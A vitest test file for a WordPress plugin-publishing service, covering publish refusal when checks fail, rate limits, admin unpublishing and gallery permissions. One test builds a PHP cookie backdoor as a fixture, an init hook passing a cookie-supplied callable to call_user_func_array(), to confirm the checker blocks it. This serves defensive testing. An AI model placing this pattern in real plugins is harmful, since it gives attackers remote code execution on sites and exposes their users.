import { desc, eq, sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { LIMITS } from "../../../../shared/constants";
import { signUp, uniqueEmail } from "../../../../../tests/support/factories";
import { createPlugin } from "../../../../../tests/support/plugin-factories";
import { saveFilesDirectly } from "../../../../../tests/support/plugin-state";
import type { TestClient } from "../../../../../tests/support/test-client";
import { useSharedTestApp } from "../../../../../tests/support/test-app";
import { pluginVersions, plugins, profiles } from "../../../db/schema";
import { storeFiles } from "../files/file-store";
import type { Services } from "../../../services";
import { PUBLISH_RATE_MESSAGE, PUBLISH_REFUSED_PREFIX } from "./publishing.service";
import { listPublicPlugins } from "./public-plugins.service";

const ADMIN = uniqueEmail("publish-admin");
const testApp = useSharedTestApp({ ADMIN_EMAILS: ADMIN, GENERATION_RATE_LIMIT_PER_MINUTE: "1000" });

const MAIN = (author: string) => `<?php\n/**\n * Plugin Name: Greeter\n * Author: ${author}\n */\ndefined( 'ABSPATH' ) || exit;\n`;

/** A plugin with one version whose checks ended as `status` (set directly: the checks themselves are tested elsewhere). */
async function pluginWithVersion(
  client: TestClient,
  services: Services,
  status: "passed" | "failed" | "pending",
  findings: Array<{ rule: string; severity: string; file: string; line: number | null; message: string }> = [],
) {
  const id = await createPlugin(client);
  await addVersion(services, id, status, findings);
  return id;
}

async function addVersion(
  services: Services,
  pluginId: string,
  status: "passed" | "failed" | "pending",
  findings: Array<{ rule: string; severity: string; file: string; line: number | null; message: string }> = [],
) {
  const [last] = await services.db
    .select({ n: pluginVersions.versionNumber })
    .from(pluginVersions)
    .where(eq(pluginVersions.pluginId, pluginId))
    .orderBy(desc(pluginVersions.versionNumber))
    .limit(1);
  const files = { "greeter/greeter.php": MAIN("Elon Musk") };
  const fileHashes = await storeFiles(services.db, pluginId, files);
  await services.db.insert(pluginVersions).values({
    pluginId,
    versionNumber: (last?.n ?? 0) + 1,
    fileHashes,
    checkStatus: status,
    checkFindings: findings,
  });
  await services.db.update(plugins).set({ fileHashes, author: "Elon Musk" }).where(eq(plugins.id, pluginId));
}

const publish = (client: TestClient, id: string) => client.patch(`/api/plugins/${id}`, { isPublic: true });

describe("[PLUGINS][PUBLISHING]", () => {
  it("no longer takes an author per plugin: the gallery shows the owner's display name", async () => {
    const { client, services } = testApp();
    const { user } = await signUp(client, { fullName: "Ada Lovelace" });
    const id = await pluginWithVersion(client, services, "passed");

    const free = await client.patch(`/api/plugins/${id}`, { author: "Elon Musk" });
    expect(free.status).toBe(400);
    expect(free.json.error.code).toBe("invalid_input");

    expect((await publish(client, id)).status).toBe(200);
    const visitor = client.newClient();
    const shown = async () => (await visitor.get(`/api/public/plugins/${id}`)).json.author as string;
    const listed = async () =>
      ((await visitor.get("/api/public/plugins")).json.plugins as Array<{ id: string; author: string }>).find((p) => p.id === id)?.author;
    // Not the header's "Author: Elon Musk", not the full name: the first name until a display name is set.
    expect(await shown()).toBe("Ada");
    expect(await listed()).toBe("Ada");
    await services.db.update(profiles).set({ displayName: "Countess of Lovelace" }).where(eq(profiles.id, user.id));
    expect(await shown()).toBe("Countess of Lovelace");
    expect(await listed()).toBe("Countess of Lovelace");
    await services.db.update(profiles).set({ displayName: " ", fullName: "" }).where(eq(profiles.id, user.id));
    expect(await shown()).toBe("Anonymous");
  });

  it("refuses to publish until the current version's checks pass, naming the problem (422)", async () => {
    const { client, services } = testApp();
    await signUp(client);
    const empty = await createPlugin(client);
    const noFiles = await publish(client, empty);
    expect(noFiles.status).toBe(422);
    expect(noFiles.json.error.message).toContain(PUBLISH_REFUSED_PREFIX);

    const failed = await pluginWithVersion(client, services, "failed", [
      { rule: "dangerous-function", severity: "error", file: "greeter/greeter.php", line: 7, message: "Calls eval()" },
    ]);
    const refused = await publish(client, failed);
    expect(refused.status).toBe(422);
    expect(refused.json.error).toEqual({
      code: "checks_not_passed",
      message: `${PUBLISH_REFUSED_PREFIX} greeter/greeter.php:7 Calls eval().`,
    });
    expect((await client.get(`/api/plugins/${failed}`)).json.isPublic).toBe(false);

    const pending = await pluginWithVersion(client, services, "pending");
    expect((await publish(client, pending)).status).toBe(422);

    // A passing later version may be published; an older passing version does not count.
    await addVersion(services, failed, "passed");
    expect((await publish(client, failed)).status).toBe(200);
    expect((await client.get(`/api/plugins/${failed}`)).json.isPublic).toBe(true);
  });

  it("refuses to publish a plugin whose code runs a callable the request names (issue #30's cookie backdoor), and its report shows the error", async () => {
    const { client, services } = testApp();
    const { user } = await signUp(client);
    const id = await createPlugin(client);
    await saveFilesDirectly(services, user.id, id, { "greeter/greeter.php": MAIN("Ada") });
    const backdoor = `${MAIN("Ada")}add_action( 'init', 'greeter_init' );\nfunction greeter_init() {\n\tif ( isset( $_COOKIE['f'] ) ) {\n\t\tcall_user_func_array( $_COOKIE['f'], $_COOKIE['a'] );\n\t}\n}\n`;
    const edit = (content: string, baseVersion: number) =>
      client.post(`/api/plugins/${id}/files`, { changes: [{ op: "write", path: "greeter/greeter.php", content }], baseVersion });
    expect((await edit(backdoor, 1)).status).toBe(200);

    const refused = await publish(client, id);
    expect(refused.status).toBe(422);
    expect(refused.json.error.code).toBe("checks_not_passed");
    // Line 11: saving the edit gave the header its Version line (rising-version.ts).
    expect(refused.json.error.message).toContain("greeter/greeter.php:11 Passes a callable taken from the request to call_user_func_array()");
    const report = await client.get(`/api/plugins/${id}/versions/2/check`);
    expect(report.status).toBe(200);
    expect(report.json.status).toBe("failed");
    expect(report.json.findings).toContainEqual(
      expect.objectContaining({ rule: "request-callable", severity: "error", file: "greeter/greeter.php", line: 11 }),
    );
    expect((await client.newClient().get(`/api/public/plugins/${id}`)).status).toBe(404);

    // The same hook calling a fixed function passes and may be published.
    expect((await edit(backdoor.replace("$_COOKIE['f'], $_COOKIE['a']", "'greeter_hello', array()"), 2)).status).toBe(200);
    expect((await publish(client, id)).status).toBe(200);
  });

  it("takes a public plugin out of the gallery while its current version fails the checks", async () => {
    const { client, services } = testApp();
    await signUp(client);
    const id = await pluginWithVersion(client, services, "passed");
    expect((await publish(client, id)).status).toBe(200);
    const visitor = client.newClient();
    expect((await visitor.get(`/api/public/plugins/${id}`)).status).toBe(200);
    await addVersion(services, id, "failed");
    expect((await visitor.get(`/api/public/plugins/${id}`)).status).toBe(404);
    expect((await visitor.get("/api/public/plugins")).json.plugins.map((p: { id: string }) => p.id)).not.toContain(id);
  });

  it(`lets one person make at most ${LIMITS.publishesPerHour} plugins public per hour (429), counted in the database`, async () => {
    const { client, services } = testApp();
    const { user } = await signUp(client);
    const ids: string[] = [];
    for (let i = 0; i <= LIMITS.publishesPerHour; i++) ids.push(await pluginWithVersion(client, services, "passed"));
    // Concurrent requests are counted one after the other.
    const results = await Promise.all(ids.map((id) => publish(client, id)));
    expect(results.filter((r) => r.status === 200)).toHaveLength(LIMITS.publishesPerHour);
    const limited = results.filter((r) => r.status === 429);
    expect(limited).toHaveLength(1);
    expect(limited[0]!.json.error).toEqual({ code: "rate_limited", message: PUBLISH_RATE_MESSAGE });
    const publicCount = await services.db
      .select({ n: sql<number>`count(*)` })
      .from(plugins)
      .where(sql`${plugins.userId} = ${user.id} and ${plugins.isPublic}`);
    expect(Number(publicCount[0]!.n)).toBe(LIMITS.publishesPerHour);

    // Making one private and public again is allowed only when an hour has passed since the oldest.
    const first = ids.find((_, i) => results[i]!.status === 200)!;
    expect((await client.patch(`/api/plugins/${first}`, { isPublic: false })).status).toBe(200);
    expect((await publish(client, first)).status).toBe(429);
    await services.db.execute(sql`update plugins set published_at = now() - interval '61 minutes' where id = ${first}`);
    expect((await publish(client, first)).status).toBe(200);
  });

  it("lets an admin unpublish anyone's plugin; others get 403, visitors 401", async () => {
    const { client, services } = testApp();
    await signUp(client);
    const id = await pluginWithVersion(client, services, "passed");
    expect((await publish(client, id)).status).toBe(200);

    const path = `/api/admin/plugins/${id}/unpublish`;
    expect((await client.newClient().post(path, {})).status).toBe(401);
    expect((await client.post(path, {})).status).toBe(403);
    const admin = client.newClient();
    await signUp(admin, { email: ADMIN });
    expect((await admin.post(`/api/admin/plugins/00000000-0000-4000-8000-000000000000/unpublish`, {})).status).toBe(404);
    const done = await admin.post(path, {});
    expect(done.status).toBe(200);
    expect(done.json).toEqual({ id, isPublic: false });
    expect((await client.newClient().get(`/api/public/plugins/${id}`)).status).toBe(404);
    // The owner sees it private in their fresh list (the list cache was told).
    const mine = (await client.get("/api/plugins")).json.plugins.find((p: { id: string }) => p.id === id);
    expect(mine.isPublic).toBe(false);
  });

  it("says 'Checked in WordPress' only while the current version passed both the static checks and WordPress", async () => {
    const { client, services } = testApp();
    await signUp(client);
    const id = await pluginWithVersion(client, services, "passed");
    expect((await publish(client, id)).status).toBe(200);
    const visitor = client.newClient();
    const checked = async () => ({
      listed: ((await visitor.get("/api/public/plugins")).json.plugins as Array<{ id: string; checkedInWordPress: string | null }>).find((p) => p.id === id)
        ?.checkedInWordPress,
      detail: (await visitor.get(`/api/public/plugins/${id}`)).json.checkedInWordPress as string | null,
    });
    expect(await checked()).toEqual({ listed: null, detail: null });
    const setRuntime = (values: Partial<typeof pluginVersions.$inferInsert>) =>
      services.db.update(pluginVersions).set(values).where(eq(pluginVersions.pluginId, id));
    await setRuntime({ runtimeStatus: "passed", runtimeWordpress: "6.5.5" });
    expect(await checked()).toEqual({ listed: "6.5.5", detail: "6.5.5" });
    await setRuntime({ runtimeStatus: "failed" });
    expect(await checked()).toEqual({ listed: null, detail: null });
    // A newer version still waiting for WordPress: no badge until it has passed there too.
    await setRuntime({ runtimeStatus: "passed" });
    await addVersion(services, id, "passed");
    expect(await checked()).toEqual({ listed: null, detail: null });
  });

  it("reads no column of the gallery's tables beyond the listed ones (never the files)", async () => {
    const { client, services } = testApp();
    await signUp(client);
    const id = await pluginWithVersion(client, services, "passed");
    expect((await publish(client, id)).status).toBe(200);
    // A role allowed to read only the listed columns (and what the author and the check filter need):
    // any query that reads the files (their hashes or plugin_file_contents) or the previews fails with "permission denied".
    for (const statement of [
      "do $$ begin if not exists (select 1 from pg_roles where rolname = 'gallery_reader') then create role gallery_reader; end if; end $$",
      "grant select (id, user_id, name, description, version, created_at, is_public) on plugins to gallery_reader",
      "grant select (id, display_name, full_name) on profiles to gallery_reader",
      "grant select (plugin_id, version_number, check_status, runtime_status, runtime_wordpress) on plugin_versions to gallery_reader",
    ]) {
      await services.db.execute(sql.raw(statement));
    }
    const listed = await services.db.transaction(async (tx) => {
      await tx.execute(sql`set local role gallery_reader`);
      return listPublicPlugins(tx);
    });
    expect(listed.map((p) => p.id)).toContain(id);
    const everything = await services.db
      .transaction(async (tx) => {
        await tx.execute(sql`set local role gallery_reader`);
        await tx.select().from(plugins).limit(1);
      })
      .then(
        () => null,
        (err: Error) => err,
      );
    expect(String(everything?.cause ?? everything)).toMatch(/permission denied/);
  });
});
